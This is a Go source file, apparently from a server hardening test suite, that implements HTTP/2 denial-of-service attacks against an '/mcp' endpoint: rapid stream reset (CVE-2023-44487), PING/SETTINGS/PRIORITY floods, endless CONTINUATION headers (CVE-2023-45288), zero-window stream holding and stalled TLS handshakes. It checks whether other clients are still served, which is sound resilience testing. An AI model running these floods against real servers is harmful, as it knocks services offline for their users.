//go:build linux

package attack

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// floodTime is how long a flood lasts.
const floodTime = 3 * time.Second

// h2conn is a client connection with HTTP/2 that writes frames of the attacker's choice.
type h2conn struct {
	net.Conn
	*http2.Framer
	out     *bufio.Writer
	headers bytes.Buffer
	encoder *hpack.Encoder
	stream  uint32 // the next one
	kind    int    // of the frames that it floods
	reading sync.WaitGroup
	answer  chan string // the status of the first answer
}

// h2 opens a connection with HTTP/2 and drops what the server sends, apart from the
// status of the first answer. The caller closes it.
func (s *server) h2(ctx context.Context, settings ...http2.Setting) (*h2conn, error) {
	conn, err := s.dial(ctx, http2.NextProtoTLS)
	if err != nil {
		return nil, err
	}
	if err := conn.SetDeadline(time.Now().Add(requestTimeout)); err != nil {
		conn.Close()
		return nil, err
	}
	c := &h2conn{Conn: conn, out: bufio.NewWriterSize(conn, 64<<10), stream: 1, answer: make(chan string, 1)}
	c.Framer = http2.NewFramer(c.out, conn)
	c.Framer.AllowIllegalWrites = true
	c.encoder = hpack.NewEncoder(&c.headers)
	_, err = io.WriteString(c.out, http2.ClientPreface)
	if err == nil {
		err = c.WriteSettings(settings...)
	}
	if err == nil {
		err = c.WriteSettingsAck()
	}
	if err == nil {
		err = c.out.Flush()
	}
	if err != nil {
		conn.Close()
		return nil, err
	}
	c.reading.Go(c.read)
	return c, nil
}

// read reads frames until the connection ends.
func (c *h2conn) read() {
	c.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	for {
		f, err := c.ReadFrame()
		if err != nil {
			return
		}
		if h, ok := f.(*http2.MetaHeadersFrame); ok {
			select {
			case c.answer <- h.PseudoValue("status"):
			default:
			}
		}
	}
}

func (c *h2conn) close() {
	_ = c.Close() // nothing is kept that it could lose
	c.reading.Wait()
}

// fields returns the encoded header of a POST to the endpoint.
func (c *h2conn) fields(s *server, token string, more ...hpack.HeaderField) []byte {
	c.headers.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: http.MethodPost}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: s.addr}, {Name: ":path", Value: "/mcp"},
		{Name: "content-type", Value: "application/json"}, {Name: "accept", Value: "application/json, text/event-stream"}, {Name: "authorization", Value: "Bearer " + token},
	}, more...) {
		_ = c.encoder.WriteField(f) // into memory
	}
	return c.headers.Bytes()
}

// request writes a whole request on a new stream and returns the stream.
func (c *h2conn) request(s *server, token, body string) (uint32, error) {
	id := c.stream
	c.stream += 2
	err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.fields(s, token), EndHeaders: true})
	if err == nil {
		err = c.WriteData(id, true, []byte(body))
	}
	return id, err
}

// speaksHTTP2 returns an error unless the server answers an honest request over HTTP/2.
func (s *server) speaksHTTP2(ctx context.Context) error {
	c, err := s.h2(ctx)
	if err != nil {
		return fmt.Errorf("connect with HTTP/2: %w", err)
	}
	defer c.close()
	if _, err := c.request(s, s.tokens["bob"], initialize); err != nil {
		return err
	}
	if err := c.out.Flush(); err != nil {
		return err
	}
	select {
	case status := <-c.answer:
		if status != "200" {
			return fmt.Errorf("an honest request over HTTP/2 is answered with %s", status)
		}
		return nil
	case <-time.After(requestTimeout):
		return fmt.Errorf("no answer over HTTP/2 within %v", requestTimeout)
	}
}

// overHTTP2 returns a server that answers over HTTP/2.
func (t *trial) overHTTP2(ctx context.Context) (*server, error) {
	s, err := t.secured(ctx)
	if err == nil {
		err = s.speaksHTTP2(ctx)
	}
	return s, err
}

// flood repeats write on n connections until the time is over, and opens a new one
// when the server has ended one. It returns how often write was called.
func (s *server) flood(ctx context.Context, last time.Duration, n int, write func(c *h2conn) error, settings ...http2.Setting) (calls int, err error) {
	ctx, cancel := context.WithTimeout(ctx, last)
	defer cancel()
	var wg sync.WaitGroup
	var mu sync.Mutex
	for range n {
		wg.Go(func() {
			for ctx.Err() == nil {
				c, dialErr := s.h2(ctx, settings...)
				if dialErr != nil {
					sleep(ctx, 10*time.Millisecond) // the server sheds connections
					continue
				}
				done := 0
				for ctx.Err() == nil && write(c) == nil {
					done++
				}
				c.close()
				mu.Lock()
				calls += done
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	if calls == 0 {
		return 0, fmt.Errorf("nothing was written")
	}
	return calls, nil
}

// rapidReset opens streams and resets them at once (CVE-2023-44487).
func rapidReset(ctx context.Context, t *trial) error {
	s, err := t.overHTTP2(ctx)
	if err != nil {
		return err
	}
	for _, token := range []string{s.tokens["bob"], "gbx_wrong"} {
		if err := t.othersServed(ctx, s, func(ctx context.Context) error {
			_, err := s.flood(ctx, floodTime, 4, func(c *h2conn) error {
				for range 50 {
					id, err := c.request(s, token, tool("get_sessions", nil))
					if err == nil {
						err = c.WriteRSTStream(id, http2.ErrCodeCancel)
					}
					if err != nil {
						return err
					}
				}
				return c.out.Flush()
			})
			return err
		}); err != nil || t.isBroken() {
			return err
		}
	}
	return nil
}

// controlFlood sends frames that the server has to answer or to process, of one kind on
// each connection.
func controlFlood(ctx context.Context, t *trial) error {
	s, err := t.overHTTP2(ctx)
	if err != nil {
		return err
	}
	kinds := []func(c *h2conn) error{
		func(c *h2conn) error { return c.WritePing(false, [8]byte{}) },
		func(c *h2conn) error {
			return c.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 14})
		},
		func(c *h2conn) error {
			c.stream += 2
			return c.WritePriority(c.stream, http2.PriorityParam{StreamDep: 1, Weight: 1})
		},
		func(c *h2conn) error { return c.WriteData(1, false, nil) },
	}
	var opened atomic.Uint32
	return t.othersServed(ctx, s, func(ctx context.Context) error {
		_, err := s.flood(ctx, floodTime, len(kinds), func(c *h2conn) error {
			if c.stream == 1 { // the stream of empty DATA frames
				c.stream += 2
				c.kind = int(opened.Add(1)) % len(kinds)
				if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.fields(s, s.tokens["bob"]), EndHeaders: true}); err != nil {
					return err
				}
			}
			for range 200 {
				if err := kinds[c.kind](c); err != nil {
					return err
				}
			}
			return c.out.Flush()
		})
		return err
	})
}

// continuationFlood sends headers that never end (CVE-2023-45288).
func continuationFlood(ctx context.Context, t *trial) error {
	s, err := t.overHTTP2(ctx)
	if err != nil {
		return err
	}
	const most = 16 << 20
	var plain bytes.Buffer
	e := hpack.NewEncoder(&plain)
	for plain.Len() < 15<<10 {
		_ = e.WriteField(hpack.HeaderField{Name: "x-long", Value: strings.Repeat("~", 700), Sensitive: true}) // into memory
	}
	for name, fragment := range map[string][]byte{
		"plain": plain.Bytes(),
		// References to the large field of the first frame.
		"compressed": bytes.Repeat([]byte{0x80 | 62}, 15<<10),
	} {
		if err := t.othersServed(ctx, s, func(ctx context.Context) error {
			c, err := s.h2(ctx)
			if err != nil {
				return err
			}
			defer c.close()
			first := c.fields(s, s.tokens["bob"], hpack.HeaderField{Name: "x-large", Value: strings.Repeat("x", 3900)})
			err = c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first})
			sent := 0
			for ; err == nil && sent < most && ctx.Err() == nil; sent += len(fragment) {
				if err = c.WriteContinuation(1, false, fragment); err == nil {
					err = c.out.Flush()
				}
			}
			t.check(sent < most, "the server accepts %d MiB of headers (%s)", most>>20, name)
			return nil
		}); err != nil || t.isBroken() {
			return err
		}
	}
	// Frames without content cost the sender nothing but bandwidth.
	return t.othersServed(ctx, s, func(ctx context.Context) error {
		_, err := s.flood(ctx, floodTime, 2, func(c *h2conn) error {
			if c.stream == 1 {
				c.stream += 2
				if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.fields(s, s.tokens["bob"])}); err != nil {
					return err
				}
			}
			for range 200 {
				if err := c.WriteContinuation(1, false, nil); err != nil {
					return err
				}
			}
			return c.out.Flush()
		})
		return err
	})
}

// zeroWindow asks for answers and gives the server no room to send them.
func zeroWindow(ctx context.Context, t *trial) error {
	s, err := t.overHTTP2(ctx)
	if err != nil {
		return err
	}
	// A single answer that waits for the end of the attack must be much too late.
	last := (muchTooLate + 1) * t.allowed
	return t.othersServed(ctx, s, func(ctx context.Context) error {
		_, err := s.flood(ctx, last, 4, func(c *h2conn) error {
			if c.stream > 200 {
				return sleep(ctx, last) // the streams stay open
			}
			if _, err := c.request(s, s.tokens["bob"], list); err != nil {
				return err
			}
			return c.out.Flush()
		}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		return err
	})
}

// slowHandshakes begins TLS and does not go on.
func slowHandshakes(ctx context.Context, t *trial) error {
	s, err := t.secured(ctx)
	if err != nil {
		return err
	}
	const n, limit = 60, 12 * time.Second
	hello := "\x16\x03\x01"                              // of a record
	longer := hello + "\x40\x00\x01\x00\x3f\xfc\x03\x03" // of a message
	both := 0
	closed, err := s.hold(ctx, n/2, hello, func() {
		both, err = s.hold(ctx, n/2, longer, func() {
			s.works(ctx, t, s.tokens["alice"])
			sleep(ctx, limit) // a context that ended shows in the next request
			s.works(ctx, t, s.tokens["alice"])
		})
	})
	both += closed
	t.check(both >= n/2, "only %d of %d connections with unfinished handshakes were closed after %v", both, n, limit)
	return err
}
